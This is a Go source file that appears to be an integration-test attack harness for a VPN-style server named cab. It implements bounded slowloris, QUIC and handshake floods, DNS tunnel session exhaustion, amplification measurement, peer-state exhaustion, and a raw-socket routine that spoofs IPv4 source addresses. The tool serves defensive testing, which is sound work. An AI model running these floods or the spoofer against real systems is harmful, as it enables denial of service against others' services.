//go:build linux

// Command attack runs the attacks of cab's attack suite against a cab
// server from the outside, as a stranger on the network would: it holds
// no key the server trusts (except where a subcommand says so). It is
// test code: built and driven by the integration tests in test/, never
// installed, never part of the cab binary. Run it only against addresses
// inside network namespaces the test made.
//
// Every subcommand is bounded in count and time, logs its progress to
// stderr and prints one JSON object with its figures on stdout.
//
//	attack tcp-slowloris   -addr HOST:PORT [-src IP] -n N -hold D
//	attack quic-flood      -addr HOST:PORT [-src IP] -n N -hold D
//	attack dns-sessions    -resolver HOST:PORT -zone Z -n N -rate Q -dur D
//	attack amplification   -udp HOST:PORT -tcp HOST:PORT -quic HOST:PORT -dns HOST:PORT -zone Z -key PUB
//	attack handshake-flood -addr HOST:PORT -key PUB -rate R -dur D [-spoof CIDR]
//	attack peer-exhaust    -addr HOST:PORT -key PUB -n N
//	attack noncanonical    -addr HOST:PORT -key PUB -priv FILE [-psk FILE]
package main

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"math/big"
	mrand "math/rand/v2"
	"net"
	"net/netip"
	"os"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/flynn/noise"
	"github.com/miekg/dns"
	"github.com/quic-go/quic-go"
	"golang.org/x/crypto/blake2s"

	"cab/crypto"
	"cab/transport"
	"cab/transport/dnstun"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack SUBCOMMAND [flags] (see the package doc)")
		os.Exit(2)
	}
	cmds := map[string]func([]string) (any, error){
		"tcp-slowloris":   tcpSlowloris,
		"quic-flood":      quicFlood,
		"dns-sessions":    dnsSessions,
		"amplification":   amplification,
		"handshake-flood": handshakeFlood,
		"peer-exhaust":    peerExhaust,
		"noncanonical":    noncanonical,
	}
	f := cmds[os.Args[1]]
	if f == nil {
		fmt.Fprintf(os.Stderr, "attack: unknown subcommand %q\n", os.Args[1])
		os.Exit(2)
	}
	res, err := f(os.Args[2:])
	if err != nil {
		fmt.Fprintf(os.Stderr, "attack %s: %v\n", os.Args[1], err)
		os.Exit(1)
	}
	json.NewEncoder(os.Stdout).Encode(res)
}

func logf(format string, args ...any) { fmt.Fprintf(os.Stderr, format+"\n", args...) }

// maxCount and maxTime bound every loop of every subcommand.
const (
	maxCount = 100000
	maxTime  = 5 * time.Minute
)

func bounded(n int, d time.Duration) error {
	if n < 0 || n > maxCount || d < 0 || d > maxTime {
		return fmt.Errorf("count %d or duration %v out of bounds (%d, %v)", n, d, maxCount, maxTime)
	}
	return nil
}

// localAddr is ip as a local address for dialling ("": any).
func localIP(ip string) net.IP {
	if ip == "" {
		return nil
	}
	return net.ParseIP(ip)
}

// tcpSlowloris opens n TCP connections and sends nothing on them for
// hold; it reports how many the server accepted, how many it closed, and
// how long the last one it closed stayed open.
func tcpSlowloris(args []string) (any, error) {
	fs := flag.NewFlagSet("tcp-slowloris", flag.ExitOnError)
	addr := fs.String("addr", "", "server TCP address")
	src := fs.String("src", "", "local IP to connect from")
	n := fs.Int("n", 1030, "connections")
	hold := fs.Duration("hold", 30*time.Second, "how long to hold them")
	fs.Parse(args)
	if err := bounded(*n, *hold); err != nil {
		return nil, err
	}
	d := net.Dialer{Timeout: 3 * time.Second, LocalAddr: &net.TCPAddr{IP: localIP(*src)}}
	var connected, closed, failed atomic.Int64
	var longest atomic.Int64
	var wg sync.WaitGroup
	sem := make(chan struct{}, 128)
	start := time.Now()
	for range *n {
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := d.Dial("tcp", *addr)
			<-sem
			if err != nil {
				failed.Add(1)
				return
			}
			defer c.Close()
			connected.Add(1)
			t0 := time.Now()
			c.SetReadDeadline(start.Add(*hold))
			_, err = c.Read(make([]byte, 1))
			if err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
				closed.Add(1)
				if d := time.Since(t0).Milliseconds(); d > longest.Load() {
					longest.Store(d)
				}
			}
		}()
	}
	wg.Wait()
	r := map[string]any{"connected": connected.Load(), "closed_by_server": closed.Load(), "failed": failed.Load(),
		"still_open_at_end": connected.Load() - closed.Load(), "longest_closed_ms": longest.Load()}
	logf("tcp-slowloris: %v", r)
	return r, nil
}

// quicFlood makes n QUIC connection attempts (TLS with ALPN h3, datagrams
// on: what a cab client does) from one address, at most 64 at a time, and
// holds those that complete for hold.
func quicFlood(args []string) (any, error) {
	fs := flag.NewFlagSet("quic-flood", flag.ExitOnError)
	addr := fs.String("addr", "", "server QUIC address")
	src := fs.String("src", "", "local IP to send from")
	n := fs.Int("n", 1100, "connection attempts")
	hold := fs.Duration("hold", 30*time.Second, "how long to hold the connections")
	fs.Parse(args)
	if err := bounded(*n, *hold); err != nil {
		return nil, err
	}
	ua, err := net.ResolveUDPAddr("udp", *addr)
	if err != nil {
		return nil, err
	}
	uc, err := net.ListenUDP("udp", &net.UDPAddr{IP: localIP(*src)})
	if err != nil {
		return nil, err
	}
	tr := &quic.Transport{Conn: uc}
	defer tr.Close()
	tc := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h3"}}
	qc := &quic.Config{EnableDatagrams: true, HandshakeIdleTimeout: 5 * time.Second, MaxIdleTimeout: *hold + 10*time.Second, KeepAlivePeriod: 10 * time.Second}
	ctx, cancel := context.WithTimeout(context.Background(), *hold)
	defer cancel()
	var ok, refused, closedLater atomic.Int64
	var mu sync.Mutex
	var conns []*quic.Conn
	var wg sync.WaitGroup
	sem := make(chan struct{}, 64)
	start := time.Now()
	for range *n {
		if ctx.Err() != nil {
			break
		}
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-sem }()
			dctx, dcancel := context.WithTimeout(ctx, 6*time.Second)
			defer dcancel()
			c, err := tr.Dial(dctx, ua, tc, qc)
			if err != nil {
				refused.Add(1)
				return
			}
			ok.Add(1)
			mu.Lock()
			conns = append(conns, c)
			mu.Unlock()
		}()
	}
	wg.Wait()
	attempts := time.Since(start)
	<-ctx.Done()
	mu.Lock()
	for _, c := range conns {
		if c.Context().Err() != nil {
			closedLater.Add(1)
		}
		c.CloseWithError(0, "")
	}
	mu.Unlock()
	r := map[string]any{"attempts": *n, "completed": ok.Load(), "refused_or_failed": refused.Load(),
		"closed_by_server": closedLater.Load(), "attempts_ms": attempts.Milliseconds()}
	logf("quic-flood: %v", r)
	return r, nil
}

// dnsSessions runs n tunnel clients that open sessions through the
// resolver and keep them busy with garbage packets (they hold no key), at
// about rate queries per second in all, for dur.
func dnsSessions(args []string) (any, error) {
	fs := flag.NewFlagSet("dns-sessions", flag.ExitOnError)
	resolver := fs.String("resolver", "", "resolver (or the server) HOST:PORT")
	zone := fs.String("zone", "", "tunnel zone")
	n := fs.Int("n", 64, "sessions")
	rate := fs.Float64("rate", 21, "packets per second in all")
	dur := fs.Duration("dur", 30*time.Second, "how long")
	fs.Parse(args)
	if err := bounded(*n, *dur); err != nil {
		return nil, err
	}
	var clients []*dnstun.Client
	for range *n {
		c, err := dnstun.Dial(*zone, *resolver, nil)
		if err != nil {
			return nil, err
		}
		defer c.Close()
		clients = append(clients, c)
	}
	every := time.Duration(float64(time.Second) / max(*rate, 0.1))
	deadline := time.Now().Add(*dur)
	junk := make([]byte, 148)
	sent := 0
	for i := 0; time.Now().Before(deadline) && sent < maxCount; i++ {
		c := clients[i%len(clients)]
		rand.Read(junk)
		junk[0] = crypto.TypeInit
		c.WriteBatch([]transport.Packet{{B: junk, Addr: c.Remote()}})
		sent++
		time.Sleep(every)
	}
	var queries uint64
	for _, c := range clients {
		if st, ok := c.PathStats(c.Remote()); ok {
			queries += st.Queries
		}
	}
	r := map[string]any{"sessions": *n, "packets": sent, "queries": queries}
	logf("dns-sessions: %v", r)
	return r, nil
}

// shape is one unauthenticated thing sent to a server, and what came
// back.
type shape struct {
	Sent  int     `json:"sent"`
	Back  int     `json:"back"`
	Ratio float64 `json:"ratio"`
}

// udpExchange sends each of pkts to addr from a fresh socket and counts
// the bytes that come back within wait.
func udpExchange(addr string, pkts [][]byte, wait time.Duration) (shape, error) {
	c, err := net.Dial("udp", addr)
	if err != nil {
		return shape{}, err
	}
	defer c.Close()
	var s shape
	for _, p := range pkts {
		n, err := c.Write(p)
		if err != nil {
			return s, err
		}
		s.Sent += n
	}
	buf := make([]byte, 65536)
	c.SetReadDeadline(time.Now().Add(wait))
	for {
		n, err := c.Read(buf)
		if err != nil {
			break
		}
		s.Back += n
	}
	if s.Sent > 0 {
		s.Ratio = float64(s.Back) / float64(s.Sent)
	}
	return s, nil
}

// amplification sends every unauthenticated shape to every carrier and
// counts the bytes back.
func amplification(args []string) (any, error) {
	fs := flag.NewFlagSet("amplification", flag.ExitOnError)
	udpAddr := fs.String("udp", "", "cab UDP address")
	tcpAddr := fs.String("tcp", "", "cab TCP address")
	quicAddr := fs.String("quic", "", "cab QUIC address")
	dnsAddr := fs.String("dns", "", "dns tunnel server address")
	zone := fs.String("zone", "", "dns tunnel zone")
	keyS := fs.String("key", "", "the server's public key")
	wait := fs.Duration("wait", 2*time.Second, "how long to count answers")
	fs.Parse(args)
	out := map[string]shape{}
	var pub crypto.PublicKey
	if *keyS != "" {
		k, err := crypto.ParsePublicKey(*keyS)
		if err != nil {
			return nil, err
		}
		pub = k
	}
	if *udpAddr != "" {
		garbage := make([]byte, 200)
		rand.Read(garbage)
		out["udp_garbage"], _ = udpExchange(*udpAddr, [][]byte{garbage}, *wait)
		init := initiation(pub, nil)
		bad := append([]byte(nil), init...)
		bad[len(bad)-1] ^= 1
		out["udp_init_bad_mac1"], _ = udpExchange(*udpAddr, [][]byte{bad}, *wait)
		out["udp_init_no_psk"], _ = udpExchange(*udpAddr, [][]byte{init}, *wait)
	}
	if *tcpAddr != "" {
		c, err := net.DialTimeout("tcp", *tcpAddr, 3*time.Second)
		if err == nil {
			garbage := make([]byte, 202)
			rand.Read(garbage)
			binary.BigEndian.PutUint16(garbage, 200)
			n, _ := c.Write(garbage)
			back := 0
			buf := make([]byte, 65536)
			c.SetReadDeadline(time.Now().Add(*wait))
			for {
				m, err := c.Read(buf)
				back += m
				if err != nil {
					break
				}
			}
			c.Close()
			out["tcp_garbage"] = shape{Sent: n, Back: back, Ratio: float64(back) / float64(n)}
		}
	}
	if *quicAddr != "" {
		initials, err := quicInitials()
		if err == nil {
			out["quic_initial"], _ = udpExchange(*quicAddr, initials, *wait+time.Second)
		}
	}
	if *dnsAddr != "" {
		q := func(name string, qt uint16, edns bool) []byte {
			m := new(dns.Msg)
			m.SetQuestion(dns.Fqdn(name), qt)
			m.RecursionDesired = false
			if edns {
				m.SetEdns0(4096, false)
			}
			b, _ := m.Pack()
			return b
		}
		z := dns.Fqdn(*zone)
		out["dns_apex_soa"], _ = udpExchange(*dnsAddr, [][]byte{q(z, dns.TypeSOA, true)}, *wait)
		out["dns_apex_txt"], _ = udpExchange(*dnsAddr, [][]byte{q(z, dns.TypeTXT, true)}, *wait)
		out["dns_apex_any"], _ = udpExchange(*dnsAddr, [][]byte{q(z, dns.TypeANY, true)}, *wait)
		out["dns_apex_ns"], _ = udpExchange(*dnsAddr, [][]byte{q(z, dns.TypeNS, false)}, *wait)
		out["dns_nxdomain"], _ = udpExchange(*dnsAddr, [][]byte{q("x."+z, dns.TypeTXT, true)}, *wait)
		out["dns_nxdomain_a"], _ = udpExchange(*dnsAddr, [][]byte{q("x."+z, dns.TypeA, false)}, *wait)
		out["dns_refused"], _ = udpExchange(*dnsAddr, [][]byte{q("example.org.", dns.TypeTXT, true)}, *wait)
		// A tunnel client's first queries: an open, as a stranger sends it.
		if opens := tunnelOpen(*dnsAddr, *zone); opens != nil {
			out["dns_tunnel_open"] = *opens
		}
	}
	worst := 0.0
	for k, s := range out {
		logf("amplification: %-20s sent %5d back %5d ratio %.2f", k, s.Sent, s.Back, s.Ratio)
		worst = max(worst, s.Ratio)
	}
	return map[string]any{"shapes": out, "worst": worst}, nil
}

// tunnelOpen runs a tunnel client straight at the server (as a stranger
// would, with no resolver between) that sends one garbage packet, and
// counts the bytes of its queries and the answers over UDP.
func tunnelOpen(server, zone string) *shape {
	pc, err := net.ListenPacket("udp", ":0")
	if err != nil {
		return nil
	}
	defer pc.Close()
	// A counting relay: the client talks to it, it talks to the server.
	sa, err := net.ResolveUDPAddr("udp", server)
	if err != nil {
		return nil
	}
	up, err := net.DialUDP("udp", nil, sa)
	if err != nil {
		return nil
	}
	defer up.Close()
	var s shape
	var mu sync.Mutex
	var client net.Addr
	go func() {
		buf := make([]byte, 65536)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			mu.Lock()
			client = from
			s.Sent += n
			mu.Unlock()
			up.Write(buf[:n])
		}
	}()
	go func() {
		buf := make([]byte, 65536)
		for {
			n, err := up.Read(buf)
			if err != nil {
				return
			}
			mu.Lock()
			s.Back += n
			to := client
			mu.Unlock()
			if to != nil {
				pc.WriteTo(buf[:n], to)
			}
		}
	}()
	c, err := dnstun.Dial(zone, pc.LocalAddr().String(), nil)
	if err != nil {
		return nil
	}
	junk := make([]byte, 148)
	rand.Read(junk)
	c.WriteBatch([]transport.Packet{{B: junk, Addr: c.Remote()}})
	time.Sleep(2 * time.Second)
	c.Close()
	mu.Lock()
	defer mu.Unlock()
	if s.Sent > 0 {
		s.Ratio = float64(s.Back) / float64(s.Sent)
	}
	return &s
}

// quicInitials returns a quic-go client's first flight (its Initials),
// sent to a socket that never answers.
func quicInitials() ([][]byte, error) {
	hole, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		return nil, err
	}
	defer hole.Close()
	uc, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		return nil, err
	}
	rc := &recordConn{PacketConn: uc, start: time.Now()}
	tr := &quic.Transport{Conn: rc}
	defer tr.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
	defer cancel()
	tr.Dial(ctx, hole.LocalAddr(), &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h3"}}, &quic.Config{EnableDatagrams: true})
	rc.mu.Lock()
	defer rc.mu.Unlock()
	if len(rc.sent) == 0 {
		return nil, errors.New("no initial")
	}
	return rc.sent, nil
}

// recordConn keeps what a quic-go client sends in its first 50 ms.
type recordConn struct {
	net.PacketConn
	start time.Time
	mu    sync.Mutex
	sent  [][]byte
}

func (r *recordConn) WriteTo(b []byte, a net.Addr) (int, error) {
	r.mu.Lock()
	if time.Since(r.start) < 50*time.Millisecond {
		r.sent = append(r.sent, append([]byte(nil), b...))
	}
	r.mu.Unlock()
	return r.PacketConn.WriteTo(b, a)
}

// initiation returns a handshake initiation to pub from a new random
// static key, with the pre-shared key psk (nil: none): its mac1 is good,
// so the server cannot refuse it before a Diffie-Hellman.
func initiation(pub crypto.PublicKey, psk *crypto.Secret) []byte {
	k, _ := crypto.GenerateKey()
	var idx [4]byte
	rand.Read(idx[:])
	_, m, err := crypto.NewInitiator(k, pub, psk, binary.LittleEndian.Uint32(idx[:]), []crypto.Cipher{crypto.CipherChaCha20Poly1305, crypto.CipherAES256GCM}, time.Now())
	if err != nil {
		panic(err)
	}
	return m
}

// handshakeFlood sends initiations with good mac1 from random keys (no
// PSK) at rate per second for dur: from this host's own address, or with
// -spoof, from random addresses of a network (raw IPv4 socket).
func handshakeFlood(args []string) (any, error) {
	fs := flag.NewFlagSet("handshake-flood", flag.ExitOnError)
	addr := fs.String("addr", "", "server UDP address (IPv4 with -spoof)")
	keyS := fs.String("key", "", "the server's public key")
	rate := fs.Int("rate", 5000, "initiations per second")
	dur := fs.Duration("dur", 20*time.Second, "how long")
	spoof := fs.String("spoof", "", "send from random addresses of this IPv4 network (CIDR)")
	pool := fs.Int("pool", 512, "distinct initiations, sent round")
	fs.Parse(args)
	if err := bounded(*rate, *dur); err != nil {
		return nil, err
	}
	pub, err := crypto.ParsePublicKey(*keyS)
	if err != nil {
		return nil, err
	}
	msgs := make([][]byte, max(*pool, 1))
	for i := range msgs {
		msgs[i] = initiation(pub, nil)
	}
	var send func([]byte) error
	if *spoof != "" {
		send, err = spoofer(*addr, *spoof)
	} else {
		var c net.Conn
		c, err = net.Dial("udp", *addr)
		if err == nil {
			defer c.Close()
			send = func(b []byte) error { _, err := c.Write(b); return err }
			go func() { // count answers
				buf := make([]byte, 2048)
				for {
					if _, err := c.Read(buf); err != nil && !errors.Is(err, syscall.ECONNREFUSED) {
						return
					}
				}
			}()
		}
	}
	if err != nil {
		return nil, err
	}
	start := time.Now()
	sent := 0
	tick := time.Second / 100
	per := max(*rate/100, 1)
	for time.Since(start) < *dur && sent < *rate*int(dur.Seconds()+1) {
		for range per {
			send(msgs[sent%len(msgs)])
			sent++
		}
		time.Sleep(tick - time.Since(start)%tick)
	}
	el := time.Since(start)
	r := map[string]any{"sent": sent, "seconds": el.Seconds(), "rate": float64(sent) / el.Seconds(), "spoofed": *spoof != ""}
	logf("handshake-flood: %v", r)
	return r, nil
}

// spoofer returns a function that sends a UDP datagram to addr from a
// random address of network (and a random port), through a raw socket.
func spoofer(addr, network string) (func([]byte) error, error) {
	dst, err := netip.ParseAddrPort(addr)
	if err != nil || !dst.Addr().Is4() {
		return nil, fmt.Errorf("-spoof needs an IPv4 -addr: %q", addr)
	}
	pfx, err := netip.ParsePrefix(network)
	if err != nil || !pfx.Addr().Is4() {
		return nil, fmt.Errorf("-spoof %q: want an IPv4 network", network)
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return nil, fmt.Errorf("raw socket (needs root): %w", err)
	}
	sa := &syscall.SockaddrInet4{Addr: dst.Addr().As4()}
	base := pfx.Masked().Addr().As4()
	hostBits := 32 - pfx.Bits()
	buf := make([]byte, 0, 2048)
	return func(payload []byte) error {
		src := base
		r := mrand.Uint32() & (1<<hostBits - 1)
		if r == 0 {
			r = 1
		}
		v := binary.BigEndian.Uint32(src[:]) | r
		binary.BigEndian.PutUint32(src[:], v)
		total := 20 + 8 + len(payload)
		buf = buf[:total]
		ip := buf[:20]
		ip[0], ip[1] = 0x45, 0
		binary.BigEndian.PutUint16(ip[2:], uint16(total))
		binary.BigEndian.PutUint16(ip[4:], uint16(mrand.Uint32()))
		ip[6], ip[7], ip[8], ip[9] = 0, 0, 64, syscall.IPPROTO_UDP
		ip[10], ip[11] = 0, 0
		copy(ip[12:16], src[:])
		d := dst.Addr().As4()
		copy(ip[16:20], d[:])
		binary.BigEndian.PutUint16(ip[10:], ipChecksum(ip))
		udp := buf[20:28]
		binary.BigEndian.PutUint16(udp[0:], uint16(1024+mrand.IntN(60000)))
		binary.BigEndian.PutUint16(udp[2:], dst.Port())
		binary.BigEndian.PutUint16(udp[4:], uint16(8+len(payload)))
		udp[6], udp[7] = 0, 0 // no checksum (IPv4)
		copy(buf[28:], payload)
		return syscall.Sendto(fd, buf, 0, sa)
	}, nil
}

func ipChecksum(h []byte) uint16 {
	var s uint32
	for i := 0; i+1 < len(h); i += 2 {
		s += uint32(h[i])<<8 | uint32(h[i+1])
	}
	for s>>16 != 0 {
		s = s&0xffff + s>>16
	}
	return ^uint16(s)
}

// peerExhaust sends n initiations, each from a new random static key and
// without the server's PSK, from 256 source ports of this host (a limit
// per IP:port is no limit), and reports how many the server answered:
// each answer is state the server made for a stranger.
func peerExhaust(args []string) (any, error) {
	fs := flag.NewFlagSet("peer-exhaust", flag.ExitOnError)
	addr := fs.String("addr", "", "server UDP address")
	keyS := fs.String("key", "", "the server's public key")
	n := fs.Int("n", 1100, "initiations")
	gap := fs.Duration("gap", 2*time.Millisecond, "pause between initiations")
	fs.Parse(args)
	if err := bounded(*n, *gap*time.Duration(*n)); err != nil {
		return nil, err
	}
	pub, err := crypto.ParsePublicKey(*keyS)
	if err != nil {
		return nil, err
	}
	var answered atomic.Int64
	var wg sync.WaitGroup
	conns := make([]net.Conn, 256)
	for i := range conns {
		c, err := net.Dial("udp", *addr)
		if err != nil {
			return nil, err
		}
		defer c.Close()
		conns[i] = c
		wg.Add(1)
		go func() {
			defer wg.Done()
			buf := make([]byte, 2048)
			for {
				c.SetReadDeadline(time.Now().Add(2 * time.Second))
				m, err := c.Read(buf)
				if err != nil {
					if errors.Is(err, syscall.ECONNREFUSED) {
						continue
					}
					return
				}
				if m > 0 && (buf[0] == crypto.TypeResponse || buf[0] == crypto.TypeCookie) {
					answered.Add(1)
				}
			}
		}()
	}
	msgs := make([][]byte, *n)
	for i := range msgs {
		msgs[i] = initiation(pub, nil)
	}
	start := time.Now()
	for i, m := range msgs {
		conns[i%len(conns)].Write(m)
		time.Sleep(*gap)
	}
	el := time.Since(start)
	wg.Wait()
	r := map[string]any{"sent": *n, "answered": answered.Load(), "seconds": el.Seconds()}
	logf("peer-exhaust: %v", r)
	return r, nil
}

// noncanonical does a handshake with the key in -priv (one the server
// trusts, and -psk) but sends the static public key with bit 255 set:
// the same point, another map key. It reports whether the server
// answered.
func noncanonical(args []string) (any, error) {
	fs := flag.NewFlagSet("noncanonical", flag.ExitOnError)
	addr := fs.String("addr", "", "server UDP address")
	keyS := fs.String("key", "", "the server's public key")
	privFile := fs.String("priv", "", "the private key file of a client the server trusts")
	pskFile := fs.String("psk", "", "the pre-shared key file, if any")
	fs.Parse(args)
	pub, err := crypto.ParsePublicKey(*keyS)
	if err != nil {
		return nil, err
	}
	priv, err := crypto.LoadKeyFile(*privFile)
	if err != nil {
		return nil, err
	}
	psk := make([]byte, 32)
	if *pskFile != "" {
		p, err := crypto.LoadKeyFile(*pskFile)
		if err != nil {
			return nil, err
		}
		psk = p[:]
	}
	own := crypto.PrivateKey(priv).Public()
	high := own
	high[31] |= 0x80
	msg, err := rawInitiation(crypto.PrivateKey(priv), high, pub, psk)
	if err != nil {
		return nil, err
	}
	c, err := net.Dial("udp", *addr)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	answered := 0
	for range 2 { // two packets: the figure
		c.Write(msg)
		buf := make([]byte, 2048)
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		if n, err := c.Read(buf); err == nil && n > 0 && buf[0] == crypto.TypeResponse {
			answered++
		}
		msg, _ = rawInitiation(crypto.PrivateKey(priv), high, pub, psk)
	}
	r := map[string]any{"sent": 2, "answered": answered, "key": high.String()}
	logf("noncanonical: %v", r)
	return r, nil
}

// rawInitiation builds a cab initiation (crypto/handshake.go's layout)
// with flynn/noise directly, so that the static public key it carries can
// be any bytes.
func rawInitiation(priv crypto.PrivateKey, staticPub, remote crypto.PublicKey, psk []byte) ([]byte, error) {
	hs, err := noise.NewHandshakeState(noise.Config{
		CipherSuite:           noise.NewCipherSuite(noise.DH25519, noise.CipherChaChaPoly, noise.HashBLAKE2s),
		Pattern:               noise.HandshakeIK,
		Initiator:             true,
		Prologue:              []byte("cab v1"),
		PresharedKeyPlacement: 2,
		PresharedKey:          psk,
		StaticKeypair:         noise.DHKey{Private: priv[:], Public: staticPub[:]},
		PeerStatic:            remote[:],
	})
	if err != nil {
		return nil, err
	}
	idxN, _ := rand.Int(rand.Reader, big.NewInt(1<<31))
	idx := uint32(idxN.Int64()) | 1
	payload := binary.LittleEndian.AppendUint32(nil, idx)
	payload = binary.BigEndian.AppendUint64(payload, uint64(time.Now().UnixNano()))
	payload = append(payload, 1, byte(crypto.CipherChaCha20Poly1305))
	msg := make([]byte, 8, 200)
	msg[0] = crypto.TypeInit
	binary.LittleEndian.PutUint32(msg[4:8], idx)
	msg, _, _, err = hs.WriteMessage(msg, payload)
	if err != nil {
		return nil, err
	}
	h, _ := blake2s.New256(nil)
	h.Write([]byte("mac1----"))
	h.Write(remote[:])
	key := h.Sum(nil)
	m, _ := blake2s.New128(key)
	m.Write(msg)
	return m.Sum(msg), nil
}
